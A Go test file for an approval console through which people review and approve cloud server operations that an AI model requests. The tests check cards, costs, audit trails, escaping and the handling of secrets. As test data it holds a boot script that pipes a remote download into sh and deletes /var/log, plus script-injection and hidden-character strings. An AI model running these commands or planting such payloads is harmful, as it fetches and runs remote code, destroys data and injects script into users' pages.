package console_test

import (
	"bytes"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/go-json-experiment/json"
	"github.com/stretchr/testify/require"

	"signoff/approvals"
	"signoff/provider/ionos/sim"
)

const script = "#!/bin/sh\n\tcurl https://get.example/agent | sh\nrm -rf /var/log\n# done \u202e ok"

// newServer asks for a server with a root script and a password.
func (b *bench) newServer(change ...func(map[string]any)) approvals.Request {
	b.t.Helper()
	in := map[string]any{
		"name": "web-3", "appliance_id": debian, "user_data": script, "user_data_content_type": "sh", "password": "Very-Secret-1",
		"hardware": map[string]any{"vcore": 2, "cores_per_processor": 1, "ram": 4, "hdds": []any{map[string]any{"size": 40, "is_main": true}}},
	}
	for _, c := range change {
		c(in)
	}
	raw, err := json.Marshal(in)
	require.NoError(b.t, err)
	return b.ask("ionos_servers_create", string(raw))
}

func TestCardShowsEverythingThatIsDecided(t *testing.T) {
	b := newBench(t, setup{})
	p := b.signedIn()
	r := b.ask("ionos_servers_update", `{"server_id":"`+staging3+`","name":"staging-4","description":"left over from the spring tests"}`)
	page := words(p.get("/requests/" + r.ID).body)
	for _, want := range []string{
		"write", "Rename server staging-3 to staging-4?", "On behalf of bob@example.com", "test client (the name the assistant gives itself; not checked), over mcp-stdio",
		"The assistant's words, not checked clean up after the spring tests", "Cloud ionos", "Account main", r.Content.Endpoint, "env:IONOS_TOKEN",
		"name staging-3 staging-4", "description left over from the spring tests left over from the spring tests (the same)",
		"Must agree 1 of alice@example.com", "(in 23 h)", approvals.Clock(r.DecideBy), r.Prepared.ApprovalDigest.Short(), r.Prepared.PresentationDigest.Short(),
	} {
		require.Contains(t, page, want)
	}
	shown, err := r.Presentation()
	require.NoError(t, err)
	require.NotEmpty(t, shown.Looks)
	for _, l := range shown.Looks {
		for _, m := range l.Members {
			require.Contains(t, page, m.Name+" "+m.Value)
		}
	}
}

func TestCardShowsArgumentsLeftOutAndTheirDefaults(t *testing.T) {
	b := newBench(t, setup{})
	p, r := b.signedIn(), b.newServer()
	page := words(p.get("/requests/" + r.ID).body)
	for _, want := range []string{"server_type not given; the cloud's default: cloud", "load_balancer_id not given; the cloud decides", "hardware.hdds.0.size", "It may start or raise a charge."} {
		require.Contains(t, page, want)
	}
}

func TestRepeatAndEarlierDenialAreOnTheCard(t *testing.T) {
	b := newBench(t, setup{})
	p, first := b.signedIn(), b.askDelete()
	require.Equal(t, http.StatusSeeOther, p.decide("deny", first, "reason", "no").status)
	b.clock.Advance(approvals.DefaultSettings.CoolDown)
	second := b.askDelete()
	require.NotEqual(t, first.ID, second.ID)
	page := p.get("/requests/" + second.ID).body
	require.Contains(t, words(page), "Exactly this call was asked for before:")
	require.Contains(t, page, `href="/requests/`+first.ID+`"`)
	require.Equal(t, http.StatusSeeOther, p.decide("deny", second, "reason", "no").status)
	b.clock.Advance(approvals.DefaultSettings.CoolDown)
	third := b.ask("ionos_servers_delete", `{"server_id":"`+staging3+`"}`, func(a *approvals.Ask) { a.RepeatOf = first.ID })
	require.Contains(t, words(p.get("/requests/"+third.ID).body), "Repeat of "+first.ID+" : it asks on purpose for the same once more")
}

func TestINV11_NoApprovalBeforeItIsPrepared(t *testing.T) {
	b := newBench(t, setup{})
	p := b.signedIn()
	b.cloud.Around = func(string, http.HandlerFunc) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusUnauthorized) }
	}
	r := b.askDelete()
	require.Equal(t, approvals.Proposed, r.State)
	page := p.get("/requests/" + r.ID).body
	require.Contains(t, words(page), "Being looked at")
	require.NotContains(t, page, "<button class=\"yes")
	require.Contains(t, words(p.get("/").body), "being looked at")
	require.Contains(t, p.get("/").body, "<title>Signoff</title>", "nobody can decide it yet")
	p.refused(p.decide("approve", r), http.StatusConflict, "It cannot be approved while it is proposed.")
}

func TestHostileTextIsShownAndHarmless(t *testing.T) {
	b := newBench(t, setup{})
	p := b.signedIn()
	const evil = "<script>alert(1)</script>\u202eevil\x1b[31m\"onload=x"
	require.NoError(t, b.cloud.Change(func(s *sim.State) {
		for _, v := range s.Servers {
			if *v.ID == staging3 {
				name, description := evil, "</textarea><form action=/x>"
				v.Name, v.Description = &name, &description
			}
		}
	}))
	r := b.ask("ionos_servers_delete", `{"server_id":"`+staging3+`"}`, func(a *approvals.Ask) {
		a.Why = "line one\n</blockquote><button>Approved</button>\u200b literal \\n"
		a.Requester.Agent = "<img src=x>\u2066agent"
	})
	for _, path := range []string{"/", "/history", "/requests/" + r.ID, "/requests/" + r.ID + "/audit"} {
		page := p.get(path).body
		for _, raw := range []string{"<script>alert", "</textarea><form", "<button>Approved", "<img src=x", "\u202e", "\u2066", "\u200b", "\x1b", `"onload=x`} {
			require.NotContains(t, page, raw, path)
		}
	}
	card := words(p.get("/requests/" + r.ID).body)
	require.Contains(t, card, `Delete server <script>alert(1)</script>\u{202E}evil\u{1B}[31m"onload=x with its disks`)
	require.Contains(t, card, `line one </blockquote><button>Approved</button>\u{200B} literal \\n`)
	require.Contains(t, card, `<img src=x>\u{2066}agent`)
}

func TestINV15_PrivateIsShownInFullToTheApproverAndNowhereElse(t *testing.T) {
	b := newBench(t, setup{})
	b.run()
	p, r := b.signedIn(), b.newServer()
	const seen = "#!/bin/sh\n\\tcurl https://get.example/agent | sh\nrm -rf /var/log\n# done \\u{202E} ok"
	page := p.get("/requests/" + r.ID).body
	require.Contains(t, page, "<pre tabindex=\"0\">"+seen+"</pre>")
	require.Contains(t, words(page), fmt.Sprintf("4 lines, %d bytes", len(script)))
	require.Contains(t, page, `class="yes`)
	everywhere := []string{"/", "/history", "/requests/" + r.ID + "/audit"}
	nowhere := func(paths ...string) {
		for _, path := range paths {
			for _, part := range []string{"get.example", "rm -rf", "Very-Secret-1"} {
				require.NotContains(t, p.get(path).body, part, path)
			}
		}
	}
	nowhere(everywhere...)
	require.NotContains(t, page, "Very-Secret-1")
	require.Contains(t, words(page), "password Initial password; made up by the cloud otherwise. hidden mark ")

	require.Equal(t, http.StatusSeeOther, p.decide("approve", r).status)
	b.until(r.ID, approvals.StatusSucceeded)
	nowhere(append(everywhere, "/requests/"+r.ID)...)
	require.Contains(t, words(p.get("/requests/"+r.ID).body), "It cannot be shown: it is kept only until the request is over")
}

func TestINV15_PrivateIsClosedToThoseWhoMayNotApprove(t *testing.T) {
	b := newBench(t, setup{policy: approvals.OnePerson{People: []string{"carol@example.com"}}})
	p, r := b.signedIn(), b.newServer()
	page := p.get("/requests/" + r.ID).body
	require.NotContains(t, page, "get.example")
	require.NotContains(t, page, `class="yes`)
	require.Contains(t, words(page), "A private argument cannot be shown here, so this cannot be approved here.")
}

func TestINV15_NewSecretIsShownOnce(t *testing.T) {
	b := newBench(t, setup{})
	b.run()
	p, r := b.signedIn(), b.newServer(func(in map[string]any) { delete(in, "password") })
	require.Equal(t, http.StatusSeeOther, p.decide("approve", r).status)
	done := b.until(r.ID, approvals.StatusSucceeded)
	require.Equal(t, []string{"/first_password"}, done.Execution.Issued)
	card := p.get("/requests/" + r.ID).body
	require.Contains(t, words(card), "Show /first_password once")
	require.NotRegexp(t, "First[0-9A-F]{8}", card)

	a := p.decide("reveal", r, "pointer", "/first_password")
	require.Equal(t, http.StatusOK, a.status, a.body)
	require.Regexp(t, `<pre class="secret" tabindex="0">First[0-9A-F]{8}</pre>`, a.body)
	require.Contains(t, words(a.body), "for the only time")
	require.Equal(t, "no-store", a.header.Get("Cache-Control"))
	p.refused(p.decide("reveal", r, "pointer", "/first_password"), http.StatusConflict, "The secret was shown already, or its time is over.")
	p.refused(p.decide("reveal", r, "pointer", "/other"), http.StatusConflict, "The secret was shown already")
	for _, path := range []string{"/", "/history", "/requests/" + r.ID, "/requests/" + r.ID + "/audit"} {
		require.NotRegexp(t, "First[0-9A-F]{8}", p.get(path).body)
	}
}

func TestAuditShowsTheTrail(t *testing.T) {
	b := newBench(t, setup{})
	p, r := b.signedIn(), b.askDelete()
	p.decide("approve", r, "approval_digest", "old")
	require.Equal(t, http.StatusSeeOther, p.decide("approve", r).status)
	page := words(p.get("/requests/" + r.ID + "/audit").body)
	last := 0
	for _, want := range []string{"request.propose", "request.prepare proposed to pending", "attempt.refused", "vote.approve pending to approved"} {
		at := strings.Index(page, want)
		require.Greater(t, at, last, want)
		last = at
	}
}

func TestHistoryIsPagedNewestFirst(t *testing.T) {
	b := newBench(t, setup{})
	p := b.signedIn()
	var ids []string
	for i := range 35 {
		name := "n" + string(bytes.Repeat([]byte("x"), i+1))
		ids = append(ids, b.ask("ionos_servers_update", `{"server_id":"`+staging3+`","name":"`+name+`","description":""}`, func(a *approvals.Ask) {
			a.Requester.Person = []string{bob, "dave@example.com"}[i%2] // neither has too many open
		}).ID)
	}
	first := p.get("/history").body
	require.Less(t, strings.Index(first, ids[34]), strings.Index(first, ids[33]))
	require.Contains(t, first, ids[5])
	require.NotContains(t, first, ids[4])
	require.Contains(t, first, `href="/history?before=`+ids[5]+`"`)
	second := p.get("/history?before=" + ids[5]).body
	for _, id := range ids[:5] {
		require.Contains(t, second, id)
	}
	require.NotContains(t, second, ids[5]+`"><span`)
	require.NotContains(t, second, ">Older<")
}

// askPlan asks for a copy of a server that is renamed, and the end of another.
func (b *bench) askPlan() approvals.Request {
	b.t.Helper()
	r, err := b.service.ProposePlan(b.t.Context(), approvals.PlanAsk{
		Requester: approvals.Requester{Person: bob, Agent: "test client", Channel: "mcp-stdio"}, Why: "web-2 moves to a fresh copy",
		Steps: []approvals.StepAsk{
			{Operation: "ionos_servers_clone", Arguments: []byte(`{"server_id":"CB22C6E0428239348A6B70BAE0D67E66","name":"copy"}`)},
			{Operation: "ionos_servers_update", Arguments: []byte(`{"name":"staging-4","description":""}`), From: map[string]string{"server_id": "1.id"}},
			{Operation: "ionos_servers_delete", Arguments: []byte(`{"server_id":"CB22C6E0428239348A6B70BAE0D67E66"}`)},
		}})
	require.NoError(b.t, err)
	require.Equal(b.t, approvals.Pending, r.State, r.Reason)
	return r
}

func TestINV11_APlanIsShownStepByStep(t *testing.T) {
	b := newBench(t, setup{})
	r := b.askPlan()
	p := b.signedIn()
	page := p.get("/requests/" + r.ID).body
	for _, want := range []string{"3 steps:", "1. Clone server web-2 as copy", "taken from the result of <code>step 1.id</code>", "staging-4",
		"3. Delete server web-2 with its disks", "10.5.135.140", "What it touches comes from an earlier step"} {
		require.Contains(t, page, want)
	}
	b.run()
	require.Equal(t, http.StatusSeeOther, p.decide("approve", r).status)
	done := b.until(r.ID, approvals.StatusSucceeded)
	require.Len(t, done.Past, 2)
	require.Contains(t, p.get("/requests/"+r.ID).body, "3 of 3")
}

func TestTheCardShowsWhatElseIsLostAndWhatItCosts(t *testing.T) {
	b := newBench(t, setup{})
	p := b.signedIn()
	remove := b.ask("ionos_servers_delete", `{"server_id":"92AA60BEC8333A21EDB9EAAA61852860"}`)
	page := words(p.get("/requests/" + remove.ID).body)
	shown, err := remove.Presentation()
	require.NoError(t, err)
	require.Len(t, shown.Hangs, 8)
	for _, h := range shown.Hangs {
		require.Contains(t, page, h.What+" "+h.Name+" "+h.Fate)
	}
	require.Contains(t, page, "What else it touches (8)")
	require.Contains(t, page, "1 disk, 2 public IPs, 1 load balancer, 1 firewall policy, 2 private networks and 1 monitoring policy hang on it.")
	require.NotContains(t, page, "What it costs")

	resize := b.ask("ionos_server_hardware_update", `{"server_id":"92AA60BEC8333A21EDB9EAAA61852860","vcore":4,"cores_per_processor":1,"ram":8}`)
	require.Contains(t, words(p.get("/requests/"+resize.ID).body), "What it costs Now 46.08 EUR per month Then 89.28 EUR per month Without VAT. Read from ionos_pricing_get, ionos_fixed_instance_sizes_list.")
	storage := b.ask("ionos_block_storages_create", `{"name":"v","size":20,"server_id":"92AA60BEC8333A21EDB9EAAA61852860"}`)
	require.Contains(t, words(p.get("/requests/"+storage.ID).body), "What it costs This costs money; the cloud's API does not say how much.")
}

func TestAPlanShowsAtEachStepWhatElseIsLostAndWhatItCosts(t *testing.T) {
	b := newBench(t, setup{})
	p := b.signedIn()
	plan := words(p.get("/requests/" + b.askPlan().ID).body)
	require.Contains(t, plan, "What it costs Price 46.08 EUR per month", "the copy of web-2")
	require.Contains(t, plan, "What else it touches (7)")
}
